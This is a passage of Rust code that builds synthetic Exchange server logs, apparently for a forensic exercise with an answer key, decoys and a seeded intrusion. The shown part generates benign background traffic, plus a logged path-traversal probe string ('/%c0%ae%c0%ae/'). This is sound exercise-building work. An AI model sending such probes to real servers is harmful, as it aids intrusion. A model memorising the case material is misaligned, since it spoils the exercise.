    logs.proxy.push(row);

    let Some((host, client_ip)) = backend_host else {
        return;
    };
    if backend_down {
        return;
    }
    let (stem, query) = match &call.backend_path {
        Some((stem, target_query)) => (
            stem.clone(),
            exchange_query(target_query, &request_id, Protocol::Ecp),
        ),
        None => (call.stem.clone(), query),
    };
    let record = IisRecord {
        end: call.end - 2,
        server_ip: host.ip(),
        stem,
        query,
        port: 444,
        user: caller.backend_user.clone(),
        client_ip: client_ip.to_string(),
        time_taken: backend_ms,
        forwarded_for: String::new(),
        ..iis_record(&call, caller, String::new())
    };
    case.logs(host).back_end.push(record);
}

/// The anonymous `401 2 5` a Negotiate client gets before it authenticates.
fn record_challenge(case: &mut Case, rng: &mut Rng, caller: &Caller, call: &Call) {
    let anonymous = Caller {
        iis_user: String::new(),
        authenticated_user: String::new(),
        ..caller.clone()
    };
    let challenge = Call {
        end: call.end - Millis::from(call.time_taken) - rng.millis(5, 60),
        status: CHALLENGE,
        time_taken: rng.range_u32(0, 15),
        ..call.clone()
    };
    record_local(case, rng, &anonymous, &challenge, "");
}

// ---------------------------------------------------------------------------------------------
// ECP Server log and MSExchange Management events
// ---------------------------------------------------------------------------------------------

/// The parts of an ECP Server `EventData` value that vary (§5.2).
struct EcpRequest<'a> {
    millis: u32,
    session: &'a str,
    command: &'a str,
    url: &'a str,
    activity: &'a str,
    user_session: &'a str,
}

/// `S:CMD` tokens holding a quote (or a `;`) are wrapped in single quotes with inner quotes
/// doubled (§5.3).
fn ecp_command_token(command: &str) -> String {
    if command.contains(['\'', ';']) {
        format!("'S:CMD={}'", command.replace('\'', "''"))
    } else {
        format!("S:CMD={command}")
    }
}

fn ecp_event_data(request: &EcpRequest) -> String {
    format!(
        "S:TIME={};S:SID={};{};S:REQID=;S:URL={};S:REFERRER=;S:EX=;S:ACTID={};S:RS=0;S:BLD={BUILD_DOTTED};S:TNAME=<null>;S:TID=;S:USID={};S:EDOID=;S:ACID=",
        request.millis,
        request.session,
        ecp_command_token(request.command),
        request.url,
        request.activity,
        request.user_session
    )
}

fn record_ecp(case: &mut Case, server: Host, at: Millis, request: &EcpRequest) {
    let event_data = ecp_event_data(request);
    case.logs(server).ecp.push(EcpRecord {
        at,
        server,
        event_data,
    });
}

/// "Cmdlet succeeded. Cmdlet X, parameters -A "v" -B "w"." (§7.2). A value of `$null` is
/// written bare.
fn cmdlet_message(outcome: &str, cmdlet: &str, parameters: &[(&str, &str)]) -> String {
    let mut message = format!("Cmdlet {outcome}. Cmdlet {cmdlet}, parameters");
    for (name, value) in parameters {
        if *value == "$null" {
            let _ = write!(message, " -{name} $null");
        } else {
            let _ = write!(message, " -{name} \"{value}\"");
        }
    }
    message.push('.');
    message
}

fn record_cmdlet(
    case: &mut Case,
    server: Host,
    at: Millis,
    cmdlet: &str,
    parameters: &[(&str, &str)],
) {
    let message = cmdlet_message("succeeded", cmdlet, parameters);
    case.logs(server).events.push(ManagementEvent {
        at,
        id: 1,
        level: "Information",
        server,
        message,
    });
}

// ---------------------------------------------------------------------------------------------
// Building the case
// ---------------------------------------------------------------------------------------------

/// Seeds of the scripted parts, fixed so the answer key never moves whatever the options; the
/// intrusion has its own so that editing a decoy cannot change its GUIDs.
const DECOY_SEED: u64 = 0x4445_434f_5953_2121; // "DECOYS!!"
const INTRUSION_SEED: u64 = 0x5052_4f58_594c_4f47; // "PROXYLOG"
const BRANCH_SEED: u64 = 0x4252_414e_4348_2121; // "BRANCH!!"

fn build_case(seed: u64) -> Case {
    let mut case = Case::default();
    let mut rng = Rng::new(seed);
    let staff = employees(&mut rng);
    for day_index in 0..CASE_DAYS {
        let day = case_day_start(day_index);
        background::load_balancer_checks(&mut case, &mut rng, day);
        background::managed_availability(&mut case, &mut rng, day);
        for user in &staff {
            background::employee_day(&mut case, &mut rng, user, day);
        }
        background::admin_day(&mut case, &mut rng, &staff, day);
        background::oab_generator_day(&mut case, &mut rng, day);
        background::http_errors_day(&mut case, &mut rng, &staff, day);
    }
    decoys::plant(&mut case, &mut Rng::new(DECOY_SEED), &staff);
    intrusion::plant(&mut case, &mut Rng::new(INTRUSION_SEED));
    branch::plant(&mut case, &mut Rng::new(BRANCH_SEED));
    background::power_loss(&mut case, &mut rng, &staff);
    case
}

mod background {
    //! Benign traffic: load balancer, Managed Availability, employees, the administrator, OAB
    //! generation and HTTP.sys errors.

    use super::*;

    const LOAD_BALANCERS: [&str; 2] = ["172.16.0.10", "172.16.0.11"];

    /// The pair checks each server every 30 s between them (each balancer every minute).
    pub(super) fn load_balancer_checks(case: &mut Case, rng: &mut Rng, day: Millis) {
        for host in Host::ALL {
            for slot in 0..(DAY / (30 * SECOND)) {
                let at = day + slot * 30 * SECOND + rng.millis(0, 900);
                if !host.is_online(at) {
                    continue;
                }
                let balancer = LOAD_BALANCERS[(slot % 2) as usize];
                let caller = Caller::anonymous(balancer, "");
                let call = Call::new(at, host, "GET", "/owa/healthcheck.htm", Protocol::Owa)
                    .took(rng.range_u32(0, 2));
                record_iis_only(case, &caller, &call);
            }
        }
    }

    #[derive(Clone, Copy)]
    enum Probe {
        Owa,
        Ecp,
        Ews,
        Eas,
        Mapi,
        PowerShell,
        Autodiscover,
    }

    const PROBES: [Probe; 7] = [
        Probe::Owa,
        Probe::Ecp,
        Probe::Ews,
        Probe::Eas,
        Probe::Mapi,
        Probe::PowerShell,
        Probe::Autodiscover,
    ];

    pub(super) fn health_mailbox(host: Host) -> &'static str {
        match host {
            Host::A => "HealthMailbox4f0c2a9e81d34b7c9e5a06b1d2c3f478",
            Host::B => "HealthMailbox9b1e7d3c05a24f6e8c7b19d0a4e5f623",
            Host::C => "HealthMailbox2d6a91c4f07e4b38a5c1e9f3b7d20a64",
            Host::D => "HealthMailbox7e3b05d9a2c14f6b8d0e1a5c9f4b3267",
        }
    }

    /// Managed Availability probes every 30 minutes on each server, rotating through the
    /// protocols, from the server's own addresses.
    pub(super) fn managed_availability(case: &mut Case, rng: &mut Rng, day: Millis) {
        for host in Host::ALL {
            for slot in 0..(DAY / (30 * MINUTE)) {
                let at = day + slot * 30 * MINUTE + rng.millis(5 * SECOND, 4 * MINUTE);
                if !host.is_online(at) {
                    continue;
                }
                let probe = PROBES[(slot as usize + host.index() * 3) % PROBES.len()];
                run_probe(case, rng, host, at, probe);
            }
        }
    }

    fn probe_caller(host: Host, ip: &str, user_agent: &str) -> Caller {
        let mailbox = health_mailbox(host);
        let upn = format!("{mailbox}@{DOMAIN}");
        Caller {
            iis_user: upn.clone(),
            authenticated_user: format!("EXAMPLE\\{mailbox}"),
            backend_user: upn,
            url_host: if ip == host.ip() {
                host.fqdn().to_lowercase()
            } else {
                "localhost".to_string()
            },
            anchor: format!("Smtp~{mailbox}@{DOMAIN}"),
            ..Caller::account(ip, user_agent, "", "Negotiate", host)
        }
    }

    fn run_probe(case: &mut Case, rng: &mut Rng, host: Host, at: Millis, probe: Probe) {
        let took = rng.range_u32(8, 120);
        match probe {
            Probe::Owa => {
                let caller = Caller {
                    auth_kind: "FBA",
                    ..probe_caller(host, host.ip(), OWA_CTP_UA)
                };
                let logon = Call::new(at, host, "POST", "/owa/auth.owa", Protocol::Owa)
                    .status(FOUND)
                    .took(took);
                let pre_auth = Caller {
                    authenticated_user: String::new(),
                    ..caller.clone()
                };
                record_local(case, rng, &pre_auth, &logon, "");
                let page = Call::new(
                    at + rng.millis(200, 900),
                    host,
                    "GET",
                    "/owa/",
                    Protocol::Owa,
                )
                .took(rng.range_u32(40, 300))
                .bytes(0, rng.range_u32(20_000, 60_000));
                record_proxied(case, rng, &caller, &page);
            }
            Probe::Ecp => {
                let caller = probe_caller(host, host.ip(), ECP_CTP_UA);
                let call = Call::new(at, host, "GET", "/ecp/", Protocol::Ecp)
                    .took(took + 200)
                    .bytes(0, 14_000);
                record_proxied(case, rng, &caller, &call);
                let session = rng.guid();
                let activity = rng.guid();
                let user_session = rng.guid();
                let request = EcpRequest {
                    millis: took,
                    session: &session,
                    command: "Pipeline.1|Get-MailboxRegionalConfiguration",
                    url: "/ecp/",
                    activity: &activity,
                    user_session: &user_session,
                };
                record_ecp(case, host, at - 20, &request);
            }
            Probe::Ews => {
                let caller = probe_caller(host, "127.0.0.1", AM_PROBE_UA);
                let call = Call::new(at, host, "GET", "/ews/", Protocol::Ews)
                    .took(took)
                    .bytes(0, 1_200);
                record_proxied(case, rng, &caller, &call);
            }
            Probe::Eas => {
                let caller = Caller {
                    auth_kind: "Basic",
                    ..probe_caller(host, "::1", AM_PROBE_UA)
                };
                let call = Call::new(
                    at,
                    host,
                    "GET",
                    "/Microsoft-Server-ActiveSync/default.eas",
                    Protocol::Eas,
                )
                .took(took)
                .bytes(0, 300);
                record_proxied(case, rng, &caller, &call);
            }
            Probe::Mapi => {
                let caller = probe_caller(host, host.ip(), MAPI_PROBE_UA);
                let mailbox_guid = rng.guid();
                let call = Call::new(at, host, "POST", "/mapi/emsmdb/", Protocol::Mapi)
                    .query(format!("mailboxId={mailbox_guid}@{DOMAIN}"))
                    .took(took)
                    .bytes(371, 443);
                record_proxied(case, rng, &caller, &call);
            }
            Probe::PowerShell => {
                let caller = Caller {
                    auth_kind: "Kerberos",
                    anchor: "ServerVersion~Version 15.2 (Build 791.0)".to_string(),
                    routing_hint: "ExchClientVer-ServerCookie",
                    ..probe_caller(host, host.ip(), WINRM_UA)
                };
                let call = Call::new(at, host, "POST", "/powershell", Protocol::PowerShell)
                    .query("clientApplication=ActiveMonitor;PSVersion=5.1.17763.1490")
                    .action("New-PSSession:Receive")
                    .took(took)
                    .bytes(2014, 934);
                record_proxied(case, rng, &caller, &call);
                record_cmdlet(case, host, at - 40, "Get-Mailbox", &[("ResultSize", "1")]);
            }
            Probe::Autodiscover => {
                let caller = probe_caller(host, "127.0.0.1", AM_PROBE_UA);
                let call = Call::new(
                    at,
                    host,
                    "POST",
                    "/Autodiscover/Autodiscover.xml",
                    Protocol::Autodiscover,
                )
                .took(took)
                .bytes(336, 2_900);
                record_proxied(case, rng, &caller, &call);
            }
        }
    }

    /// Outlook, ActiveSync and OWA use of one employee on one day.
    pub(super) fn employee_day(case: &mut Case, rng: &mut Rng, user: &Employee, day: Millis) {
        let percent = day_percent(day) * user.activity_percent / 100;
        if user.legacy_outlook {
            for _ in 0..rng.scaled(3, percent) {
                rpc_over_http(case, rng, user, day);
            }
        } else {
            for _ in 0..rng.scaled(4, percent) {
                outlook_call(case, rng, user, day, OutlookCall::Emsmdb);
            }
            for _ in 0..rng.scaled(1, percent) {
                outlook_call(case, rng, user, day, OutlookCall::Nspi);
            }
        }
        for _ in 0..rng.scaled(1, percent) {
            outlook_call(case, rng, user, day, OutlookCall::Ews);
        }
        for _ in 0..rng.scaled(1, percent) {
            outlook_call(case, rng, user, day, OutlookCall::Autodiscover);
        }
        if rng.chance((4 * percent).min(1000)) {
            outlook_call(case, rng, user, day, OutlookCall::OfflineAddressBook);
        }
        if user.mobile.is_some() {
            for _ in 0..rng.scaled(4, percent.max(60)) {
                active_sync(case, rng, user, day);
            }
        }
        if user.home_ip.is_some() && rng.chance((6 * percent).min(1000)) {
            owa_session(case, rng, user, day);
        }
    }

    #[derive(Clone, Copy)]
    enum OutlookCall {
        Emsmdb,
        Nspi,
        Ews,
        Autodiscover,
        OfflineAddressBook,
    }

    /// A short MAPI/HTTP client request id, as Outlook sends it.
    fn mapi_client_request_id(rng: &mut Rng, action: &str) -> String {
        format!(
            "R:{}:{};RT:{action};CI:{}:{}",
            rng.guid(),
            rng.range(1, 400),
            rng.guid(),
            rng.range(1, 9000)
        )
    }

    fn outlook_call(
        case: &mut Case,
        rng: &mut Rng,
        user: &Employee,
        day: Millis,
        kind: OutlookCall,
    ) {
        let at = office_moment(rng, day);
        let front = balanced_front(rng, at);
        let agent = if user.legacy_outlook {
            OUTLOOK_2013_UA
        } else {
            OUTLOOK_UA
        };
        let mut caller = Caller::employee(user, &user.desktop_ip, agent);
        let mailbox_query = format!("MailboxId={}@{DOMAIN}", user.mailbox_guid);
        let call = match kind {
            OutlookCall::Emsmdb | OutlookCall::Nspi => {
                caller.anchor = format!("MailboxGuid~{}", user.mailbox_guid);
                caller.routing_hint = "MailboxGuidWithDomain";
                let (stem, action) = match kind {
                    OutlookCall::Emsmdb => (
                        "/mapi/emsmdb/",
                        *rng.pick(&["Execute", "Execute", "NotificationWait", "Connect"]),
                    ),
                    _ => ("/mapi/nspi/", "Bind"),
                };
                let took = if action == "NotificationWait" {
                    rng.range_u32(30_000, 480_000)
                } else {
                    rng.range_u32(12, 420)
                };
                // The mailbox database is busy now and then.
                let status = if rng.chance(6) { UNAVAILABLE } else { OK };
                let mut call = Call::new(at, front, "POST", stem, Protocol::Mapi)
                    .query(mailbox_query)
                    .status(status)
                    .took(took)
                    .bytes(rng.range_u32(300, 9_000), rng.range_u32(400, 60_000));
                call.client_request_id = mapi_client_request_id(rng, action);
                call
            }
            OutlookCall::Ews => {
                let status = if rng.chance(15) { SERVER_ERROR } else { OK };
                Call::new(at, front, "POST", "/EWS/Exchange.asmx", Protocol::Ews)
                    .status(status)
                    .took(rng.range_u32(20, 650))
                    .bytes(rng.range_u32(800, 4_000), rng.range_u32(1_000, 40_000))
            }
            OutlookCall::Autodiscover => Call::new(
                at,
                front,
                "POST",
                "/Autodiscover/Autodiscover.xml",
                Protocol::Autodiscover,
            )
            .took(rng.range_u32(25, 300))
            .bytes(rng.range_u32(350, 420), rng.range_u32(3_000, 6_000)),
            OutlookCall::OfflineAddressBook => {
                let status = if rng.chance(600) { NOT_MODIFIED } else { OK };
                Call::new(
                    at,
                    front,
                    "GET",
                    "/OAB/9b7a6c1e-2f4d-4e3a-8c5b-1d0e7f6a5b4c/oab.xml",
                    Protocol::Oab,
                )
                .status(status)
                .took(rng.range_u32(10, 90))
                .bytes(0, rng.range_u32(600, 1_400))
            }
        };
        if rng.chance(60) {
            record_challenge(case, rng, &caller, &call);
        }
        record_proxied(case, rng, &caller, &call);
    }

    /// Outlook 2013 over RPC/HTTP: a long-lived IN and OUT channel pair.
    fn rpc_over_http(case: &mut Case, rng: &mut Rng, user: &Employee, day: Millis) {
        let at = office_moment(rng, day);
        let front = balanced_front(rng, at);
        let caller = Caller {
            anchor: format!("MailboxGuid~{}", user.mailbox_guid),
            routing_hint: "RpcHttpMailboxGuid",
            auth_kind: "NTLM",
            ..Caller::employee(user, &user.desktop_ip, RPC_UA)
        };
        let query = format!("{}@{DOMAIN}:6001", user.mailbox_guid);
        for method in ["RPC_IN_DATA", "RPC_OUT_DATA"] {
            let call = Call::new(
                at + rng.millis(0, 800),
                front,
                method,
                "/rpc/rpcproxy.dll",
                Protocol::RpcHttp,
            )
            .query(query.clone())
            .took(rng.range_u32(60_000, 900_000))
            .bytes(rng.range_u32(5_000, 400_000), rng.range_u32(5_000, 900_000));
            record_proxied(case, rng, &caller, &call);
        }
    }

    /// One ActiveSync request of a phone: long-poll Ping, Sync or FolderSync, all day long.
    fn active_sync(case: &mut Case, rng: &mut Rng, user: &Employee, day: Millis) {
        let Some((ip, device_id, device_type, agent)) = &user.mobile else {
            return;
        };
        let at = if rng.chance(300) {
            day + rng.millis(0, DAY - 1)
        } else {
            office_moment(rng, day)
        };
        let front = balanced_front(rng, at);
        let caller = Caller {
            auth_kind: "Basic",
            ..Caller::employee(user, ip, agent)
        };
        let (command, took) = match rng.weighted(&[60, 35, 5]) {
            0 => ("Ping", rng.range_u32(470_000, 900_000)),
            1 => ("Sync", rng.range_u32(40, 600)),
            _ => ("FolderSync", rng.range_u32(40, 300)),
        };
        let call = Call::new(
            at,
            front,
            "POST",
            "/Microsoft-Server-ActiveSync/default.eas",
            Protocol::Eas,
        )
        .query(format!(
            "Cmd={command}&User={}&DeviceId={device_id}&DeviceType={device_type}",
            user.sam
        ))
        .took(took)
        .bytes(rng.range_u32(90, 600), rng.range_u32(20, 9_000));
        record_proxied(case, rng, &caller, &call);
    }

    const OWA_LOGON_STATIC: [&str; 3] = [
        "/owa/auth/15.2.792/themes/resources/logon.css",
        "/owa/auth/15.2.792/themes/resources/favicon.ico",
        "/owa/auth/15.2.792/scripts/premium/flogon.js",
    ];
    const OWA_APP_STATIC: [&str; 4] = [
        "/owa/prem/15.2.792.3/scripts/boot.worldwide.0.mouse.js",
        "/owa/prem/15.2.792.3/scripts/boot.worldwide.1.mouse.js",
        "/owa/prem/15.2.792.3/resources/styles/0/boot.worldwide.mouse.css",
        "/owa/prem/15.2.792.3/resources/images/0/sprite1.mouse.png",
    ];
    const OWA_ACTIONS: [&str; 6] = [
        "FindItem",
        "GetItem",
        "FindConversation",
        "GetConversationItems",
        "GetMailTips",
        "UpdateItem",
    ];

    /// An OWA session from home: logon page, FBA post, the app, static files, service calls.
    fn owa_session(case: &mut Case, rng: &mut Rng, user: &Employee, day: Millis) {
        let Some(ip) = &user.home_ip else { return };
        let mut at = office_moment(rng, day);
        let front = balanced_front(rng, at);
        let browser = Caller::anonymous(ip, user.browser);
        let fba = Caller {
            auth_kind: "FBA",
            ..browser.clone()
        };
        record_local(
            case,
            rng,
            &fba,
            &Call::new(at, front, "GET", "/owa/", Protocol::Owa)
                .status(FOUND)
                .took(3),
            "NoCookies=302 - GET/E14AuthPost;",
        );
        at += rng.millis(150, 400);
        let logon = Call::new(at, front, "GET", "/owa/auth/logon.aspx", Protocol::Owa)
            .query("url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0")
            .took(rng.range_u32(8, 40));
        record_local(case, rng, &fba, &logon, "");
        for stem in OWA_LOGON_STATIC {
            at += rng.millis(20, 200);
            record_iis_only(
                case,
                &browser,
                &Call::new(at, front, "GET", stem, Protocol::Owa).took(rng.range_u32(0, 15)),
            );
        }
        at += rng.millis(4_000, 15_000);
        let signed_in = Caller {
            iis_user: user.account(),
            ..fba.clone()
        };
        let post = Call::new(at, front, "POST", "/owa/auth.owa", Protocol::Owa)
            .status(FOUND)
            .took(rng.range_u32(60, 300));
        record_local(case, rng, &signed_in, &post, "");
        let session = Caller {
            auth_kind: "FBA",
            referer: format!("https://{MAIL_HOST}/owa/"),
            ..Caller::employee(user, ip, user.browser)
        };
        at += rng.millis(300, 900);
        let app = Call::new(at, front, "GET", "/owa/", Protocol::Owa)
            .took(rng.range_u32(90, 500))
            .bytes(0, 48_000);
        record_proxied(case, rng, &session, &app);
        for stem in OWA_APP_STATIC {
            at += rng.millis(20, 300);
            let status = if rng.chance(300) { NOT_MODIFIED } else { OK };
            record_iis_only(
                case,
                &session_static(&session),
                &Call::new(at, front, "GET", stem, Protocol::Owa)
                    .status(status)
                    .took(rng.range_u32(0, 40)),
            );
        }
        for id in 1..=rng.range(3, 8) {
            at += rng.millis(2_000, 120_000);
            let action = *rng.pick(&OWA_ACTIONS);
            let call = Call::new(at, front, "POST", "/owa/service.svc", Protocol::Owa)
                .query(format!("action={action}&EP=1&ID=-{}&AC=1", id + 10))
                .action(action)
                .took(rng.range_u32(20, 400))
                .bytes(rng.range_u32(400, 3_000), rng.range_u32(800, 30_000));
            record_proxied(case, rng, &session, &call);
        }
        at += rng.millis(1_000, 5_000);
        let wait = rng.range_u32(30_000, 60_000);
        let notification = Call::new(
            at + Millis::from(wait),
            front,
            "POST",
            "/owa/ev.owa2",
            Protocol::Owa,
        )
        .query(format!(
            "ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid={}",
            rng.guid()
        ))
        .took(wait)
        .bytes(300, 900);
        record_proxied(case, rng, &session, &notification);
    }

    /// Static OWA files are served by IIS with no user attached.
    fn session_static(session: &Caller) -> Caller {
        Caller {
            iis_user: String::new(),
            ..session.clone()
        }
    }

    const ADMIN_IP: &str = "172.16.30.5";
    pub(super) const ADMIN_ACCOUNT: &str = "EXAMPLE\\admin.jlee";

    pub(super) fn admin_caller(user_agent: &str) -> Caller {
        Caller {
            anchor: format!("Sid~{SID_PREFIX}-1105"),
            referer: format!("https://{MAIL_HOST}/ecp/"),
            ..Caller::account(ADMIN_IP, user_agent, ADMIN_ACCOUNT, "FBA", Host::B)
        }
    }

    /// One ECP request of the administrator: IIS, HttpProxy and W3SVC2 lines plus the ECP
    /// Server line on MBX-B (her mailbox server, where ECP runs).
    pub(super) struct AdminEcp<'a> {
        pub(super) front: Host,
        pub(super) end: Millis,
        pub(super) operation: &'a str,
        pub(super) schema: &'a str,
        pub(super) canary: &'a str,
        pub(super) command: &'a str,
        pub(super) ecp_millis: u32,
        pub(super) session: &'a str,
        pub(super) activity: &'a str,
        pub(super) user_session: &'a str,
    }

    pub(super) fn admin_ecp_request(case: &mut Case, rng: &mut Rng, request: &AdminEcp) {
        let caller = admin_caller(BROWSER_UAS[0]);
        let query = format!(
            "schema={}&msExchEcpCanary={}",
            request.schema, request.canary
        );
        let stem = format!("/ecp/DDI/DDIService.svc/{}", request.operation);
        let url = format!("{stem}?{query}");
        let call = Call::new(request.end, request.front, "POST", &stem, Protocol::Ecp)
            .query(query)
            .took(request.ecp_millis + rng.range_u32(20, 60))
            .bytes(rng.range_u32(400, 2_000), rng.range_u32(900, 30_000));
        record_proxied(case, rng, &caller, &call);
        let ecp = EcpRequest {
            millis: request.ecp_millis,
            session: request.session,
            command: request.command,
            url: &url,
            activity: request.activity,
            user_session: request.user_session,
        };
        let logged = request.end - Millis::from(call.time_taken) + Millis::from(request.ecp_millis);
        record_ecp(case, Host::B, logged.min(request.end - 30), &ecp);
    }

    /// (DDI operation, schema, S:CMD) of the administrator's routine reads.
    const ADMIN_READS: [(&str, &str, &str); 5] = [
        (
            "GetList",
            "MailboxService",
            "Get-Recipient.ResultSize=501.RecipientTypeDetails='UserMailbox'.SortBy='DisplayName'",
        ),
        (
            "GetList",
            "DatabaseService",
            "Get-MailboxDatabase.Status=$true",
        ),
        ("GetList", "ExchangeServers", "Get-ExchangeServer"),
        (
            "GetList",
            "VirtualDirectory",
            "Get-OwaVirtualDirectory.ADPropertiesOnly=$true",
        ),
        (
            "GetObject",
            "EditMailboxQuotas",
            "Get-Mailbox.Identity='corp.example.org/Users/Lena Meyer'",
        ),
    ];

    /// Weekday ECP use on MBX-B and an Exchange Management Shell session on MBX-A.
    pub(super) fn admin_day(case: &mut Case, rng: &mut Rng, staff: &[Employee], day: Millis) {
        if weekday(day) >= 5 {
            return;
        }
        let start = day + 8 * HOUR + rng.millis(0, 90 * MINUTE);
        let front = balanced_front(rng, start);
        let browser = admin_caller(BROWSER_UAS[0]);
        let fba = Caller {
            iis_user: String::new(),
            authenticated_user: String::new(),
            ..browser.clone()
        };
        let logon = Call::new(start, front, "GET", "/owa/auth/logon.aspx", Protocol::Owa)
            .query("replaceCurrent=1&url=https%3a%2f%2fmail.example.org%2fecp%2f")
            .took(rng.range_u32(8, 40));
        record_local(case, rng, &fba, &logon, "");
        let post = Call::new(
            start + rng.millis(5_000, 12_000),
            front,
            "POST",
            "/owa/auth.owa",
            Protocol::Owa,
        )
        .status(FOUND)
        .took(120);
        record_local(
            case,
            rng,
            &Caller {
                iis_user: ADMIN_ACCOUNT.to_string(),
                ..fba.clone()
            },
            &post,
            "",
        );
        let page = Call::new(
            post.end + rng.millis(400, 900),
            front,
            "GET",
            "/ecp/",
            Protocol::Ecp,
        )
        .took(rng.range_u32(200, 700))
        .bytes(0, 52_000);
        record_proxied(case, rng, &browser, &page);

        let canary = rng.hex(64, false) + ".";
        let session = rng.guid();
        let user_session = rng.guid();
        let mut at = page.end;
        for (operation, schema, command) in ADMIN_READS {
            at += rng.millis(3_000, 40_000);
            let activity = rng.guid();
            let request = AdminEcp {
                front,
                end: at,
                operation,
                schema,
                canary: &canary,
                command,
                ecp_millis: rng.range_u32(30, 600),
                session: &session,
                activity: &activity,
                user_session: &user_session,
            };
            admin_ecp_request(case, rng, &request);
        }
        let user = rng.pick(staff);
        at += rng.millis(20_000, 90_000);
        let activity = rng.guid();
        let command = format!(
            "Set-Mailbox.Identity='{DOMAIN}/Users/{}'.ProhibitSendQuota='9.5 GB'.CustomAttribute1='Finance, Zurich'",
            user.sam
        );
        let request = AdminEcp {
            front,
            end: at,
            operation: "SetObject",
            schema: "EditMailboxQuotas",
            canary: &canary,
            command: &command,
            ecp_millis: rng.range_u32(300, 900),
            session: &session,
            activity: &activity,
            user_session: &user_session,
        };
        admin_ecp_request(case, rng, &request);
        let identity = format!("{DOMAIN}/Users/{}", user.sam);
        record_cmdlet(
            case,
            Host::B,
            at - 60,
            "Set-Mailbox",
            &[
                ("Identity", identity.as_str()),
                ("ProhibitSendQuota", "9.5 GB"),
                ("CustomAttribute1", "Finance, Zurich"),
            ],
        );
        let afternoon = day + 13 * HOUR + rng.millis(0, 2 * HOUR);
        management_shell_session(case, rng, staff, afternoon);
    }

    /// Remote PowerShell from the administrator's workstation to MBX-A, with the cmdlets it ran.
    fn management_shell_session(case: &mut Case, rng: &mut Rng, staff: &[Employee], start: Millis) {
        let caller = Caller {
            url_host: Host::A.fqdn().to_lowercase(),
            anchor: "ServerVersion~Version 15.2 (Build 792.0)".to_string(),
            routing_hint: "ExchClientVer-ServerCookie",
            target: Target::Server(Host::A),
            ..Caller::account(ADMIN_IP, WINRM_UA, ADMIN_ACCOUNT, "Kerberos", Host::A)
        };
        let mut at = start;
        for _ in 0..rng.range(4, 7) {
            at += rng.millis(1_000, 30_000);
            let call = Call::new(at, Host::A, "POST", "/powershell", Protocol::PowerShell)
                .query(format!("serializationLevel=Full;ExchClientVer={BUILD_DOTTED};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1490"))
                .action("Command:Receive")
                .took(rng.range_u32(30, 2_000))
                .bytes(rng.range_u32(1_500, 9_000), rng.range_u32(900, 40_000));
            if Host::A.is_online(at) {
                record_proxied(case, rng, &caller, &call);
            }
        }
        let user = rng.pick(staff);
        let identity = user.sam.as_str();
        let delegate = format!("EXAMPLE\\{}", rng.pick(staff).sam);
        let addresses = format!("SMTP:{0}@{DOMAIN},smtp:{0}@example.org", user.sam);
        record_cmdlet(
            case,
            Host::A,
            start + 2_000,
            "Get-Mailbox",
            &[("Identity", identity)],
        );
        record_cmdlet(
            case,
            Host::A,
            start + 9_000,
            "Set-Mailbox",
            &[
                ("Identity", identity),
                ("EmailAddresses", addresses.as_str()),
            ],
        );
        record_cmdlet(
            case,
            Host::A,
            start + 15_000,
            "Add-MailboxPermission",
            &[
                ("Identity", "shared.finance"),
                ("User", delegate.as_str()),
                ("AccessRights", "FullAccess"),
            ],
        );
    }

    /// OAB generation three times a day on each server, with the benign housekeeping message
    /// about temporary files under `ClientAccess\OAB\Temp` now and then.
    pub(super) fn oab_generator_day(case: &mut Case, rng: &mut Rng, day: Millis) {
        for host in Host::ALL {
            for cycle in 0..3 {
                let mut at = day + cycle * 8 * HOUR + HOUR + rng.millis(35 * MINUTE, 50 * MINUTE);
                let entries = 1_200 + rng.below(90);
                let mut line = |at: Millis, level: &'static str, message: String| {
                    case.logs(host).oab.push(OabRecord {
                        at,
                        server: host,
                        level,
                        message,
                    });
                };
                line(at, "Information", "OABGeneratorAssistant started processing OAB 'Default Offline Address Book' (9b7a6c1e-2f4d-4e3a-8c5b-1d0e7f6a5b4c) in mailbox 'SystemMailbox{bb558c35-97f1-4cb9-8ff7-d53741dc928c}'.".to_string());
                at += rng.millis(800, 3_000);
                line(
                    at,
                    "Information",
                    format!(
                        "Generating full OAB 'Default Offline Address Book': {},{:03} address entries, {} distribution lists.",
                        entries / 1000,
                        entries % 1000,
                        300 + rng.below(20)
                    ),
                );
                if rng.chance(450) {
                    at += rng.millis(200, 900);
                    let path = format!(
                        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\{}\\9b7a6c1e-2f4d-4e3a-8c5b-1d0e7f6a5b4c-data-{}.lzx",
                        rng.guid(),
                        rng.range(1, 40)
                    );
                    line(
                        at,
                        "Warning",
                        format!("Download failed and temporary file '{path}' needs to be removed."),
                    );
                }
                at += rng.millis(1_000, 4_000);
                line(
                    at,
                    "Information",
                    "Uploaded 4 OAB files to the arbitration mailbox.".to_string(),
                );
                at += rng.millis(100, 600);
                line(
                    at,
                    "Information",
                    format!(
                        "OAB generation for 'Default Offline Address Book' completed in 00:00:0{}.{:03}.",
                        rng.range(3, 9),
                        rng.below(1000)
                    ),
                );
            }
        }
    }

    /// HTTP.sys rejections and timeouts, mostly idle Outlook connections, plus a few from the
    /// internet and the queue drop of the patch restart.
    pub(super) fn http_errors_day(case: &mut Case, rng: &mut Rng, staff: &[Employee], day: Millis) {
        for host in Host::ALL {
            for _ in 0..rng.scaled(70, day_percent(day).max(40)) {
                let at = office_moment(rng, day);
                let port = rng.range(49_152, 65_535);
                let user = rng.pick(staff);
                let site = host.ip();
                let rest = match rng.weighted(&[55, 15, 8, 7, 5, 10]) {
                    0 => format!(
                        "{} {port} {site} 443 - - - - - Timer_ConnectionIdle -",
                        user.desktop_ip
                    ),
                    1 => format!(
                        "{} {port} {site} 443 HTTP/1.1 POST /EWS/Exchange.asmx - 1 Request_Cancelled MSExchangeServicesAppPool",
                        user.desktop_ip
                    ),
                    2 => format!(
                        "{} {port} {site} 443 - - - - - Timer_MinBytesPerSecond -",
                        user.mobile
                            .as_ref()
                            .map_or(user.desktop_ip.as_str(), |m| m.0.as_str())
                    ),
                    3 => format!(
                        "198.51.100.{} {port} {site} 443 HTTP/1.1 GET /%c0%ae%c0%ae/ 400 - BadRequest -",
                        rng.range(1, 120)
                    ),
                    4 => format!(
                        "198.51.100.{} {port} {site} 443 - - - 400 - Hostname -",
                        rng.range(1, 120)
                    ),
                    _ => format!(
                        "{} {port} {site} 443 HTTP/1.1 POST /mapi/emsmdb/?MailboxId={}@{DOMAIN} - 1 Client_Reset MSExchangeMapiFrontEndAppPool",
                        user.desktop_ip, user.mailbox_guid
                    ),
                };
